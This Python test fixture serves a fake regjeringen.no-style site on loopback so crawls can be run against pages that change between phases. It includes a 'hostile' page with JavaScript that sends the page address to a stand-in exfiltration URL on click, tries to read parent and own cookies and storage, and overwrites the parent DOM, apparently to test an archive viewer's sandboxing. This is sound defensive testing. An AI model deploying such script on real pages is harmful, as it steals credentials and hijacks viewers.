"""A tiny regjeringen-like site on loopback, whose pages can be changed between crawls."""

from __future__ import annotations

import struct
import threading
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG, big enough to see an outline around it."""
    row = b"\x00" + bytes(rgb) * width
    raw = zlib.compress(row * height)

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def article(title: str, h1: str, body: str, figures: str) -> str:
    return f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>{title} - regjeringen.no</title>
<meta property="og:title" content="{title}"><meta property="og:type" content="article">
<link rel="stylesheet" href="/css/site.css">
</head><body>
<header class="site-header"><a href="/">Government.no</a><nav class="main-nav"><a href="/">Home</a>
<a href="/en/ferry/">Ferry</a></nav></header>
<main id="mainContent">
  <header class="article-header"><h1>{h1}</h1></header>
  <div class="article-info"><span class="date">Date: 14/12/2023</span></div>
  <div class="article-body">
    <p>{body}</p>
    {figures}
    <p>Read more on <a href="https://live.example.org/never">a page that was never archived</a>.</p>
  </div>
</main><footer class="site-footer">Footer</footer></body></html>"""


UNCREDITED = (
    '<figure class="image"><img src="/images/tromso.png" alt="The minister in Tromsø">'
    "<figcaption>The minister meets students in Tromsø.</figcaption></figure>"
)
CREDITED = (
    '<figure class="image"><img src="/images/harbour.png" alt="Harbour">'
    "<figcaption>The harbour. Credit: NTB</figcaption></figure>"
)
FERRY_UNCREDITED = (
    '<figure class="image"><img src="/images/ferry.png" alt="Ferry">'
    "<figcaption>The new ferry.</figcaption></figure>"
)
FERRY_CREDITED = (
    '<figure class="image"><img src="/images/ferry.png" alt="Ferry">'
    "<figcaption>The new ferry. Credit: Statens vegvesen</figcaption></figure>"
)

HOSTILE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Hostile page - regjeringen.no</title></head><body>
<main id="mainContent"><header class="article-header"><h1>Hostile page</h1></header>
<p id="probe">script did not run</p>
<p><a id="exfil" href="/en/ferry/">Read about the ferry</a></p><p id="clicked"></p>
<script>
// One click: send the viewer's window, or failing that this frame, to the
// attacker with this document's own address (and whatever credential it holds).
document.getElementById("exfil").addEventListener("click", function (event) {
  event.preventDefault();
  document.getElementById("clicked").textContent = "clicked";
  console.log("hostile click handler ran");
  var leak = "http://127.0.0.1:9/exfil?u=" + encodeURIComponent(location.href);
  try { top.location.href = leak + "&via=top"; } catch (e) { /* refused */ }
  setTimeout(function () { location.href = leak + "&via=self"; }, 200);
});
</script>
<script>
var results = [];
function attempt(name, fn) {
  try { results.push(name + "=" + String(fn())); }
  catch (e) { results.push(name + ":blocked:" + e.name); }
}
attempt("parent.cookie", function () { return parent.document.cookie; });
attempt("parent.dom", function () {
  parent.document.body.innerHTML = "<h1 id='pwned'>PWNED</h1>"; return "written";
});
attempt("top.dom", function () { return top.document.title; });
attempt("own.cookie", function () { return document.cookie; });
attempt("storage", function () { return window.localStorage.length; });
document.getElementById("probe").textContent = results.join(" | ");
</script>
</main></body></html>"""

CSS = b"body{font-family:serif;background:#fff url(/images/bg.png) no-repeat}h1{color:#0b2545}"


class SmallSite:
    """Pages by path, served from a thread; `pages` may be changed between crawls."""

    def __init__(self) -> None:
        self.pages: dict[str, tuple[str, bytes]] = {}
        self.phase(1)
        owner = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                found = owner.pages.get(self.path.split("?")[0])
                status, kind, body = (200, *found) if found else (404, "text/plain", b"not found")
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def phase(self, n: int) -> None:
        html = "text/html; charset=utf-8"
        tromso_h1 = "Minister visits Tromsø" if n == 1 else "Minister visited Tromsø and Alta"
        tromso_body = (
            "The minister visited Tromsø on Thursday."
            if n == 1
            else "The minister visited Tromsø and Alta on Thursday and Friday."
        )
        self.pages = {
            "/": (
                html,
                b"<!DOCTYPE html><html><head><title>Government.no</title></head><body>"
                b'<main id="mainContent"><h1>Government.no</h1>'
                b'<a href="/en/tromso/">Tromso</a> <a href="/en/ferry/">Ferry</a> '
                b'<a href="/en/hostile/">Hostile</a></main></body></html>',
            ),
            "/en/tromso/": (
                html,
                article(
                    "Minister visits Tromsø", tromso_h1, tromso_body, UNCREDITED + CREDITED
                ).encode(),
            ),
            "/en/ferry/": (
                html,
                article(
                    "New coastal ferry",
                    "New coastal ferry",
                    "A new ferry serves the coast.",
                    FERRY_UNCREDITED if n == 1 else FERRY_CREDITED,
                ).encode(),
            ),
            "/en/hostile/": (html, HOSTILE.encode()),
            "/css/site.css": ("text/css", CSS),
            "/images/tromso.png": ("image/png", png(320, 200, (30, 110, 180))),
            "/images/harbour.png": ("image/png", png(320, 200, (40, 150, 90))),
            "/images/ferry.png": ("image/png", png(320, 200, (200, 120, 40))),
            "/images/bg.png": ("image/png", png(4, 4, (250, 250, 250))),
        }

    def __enter__(self) -> SmallSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
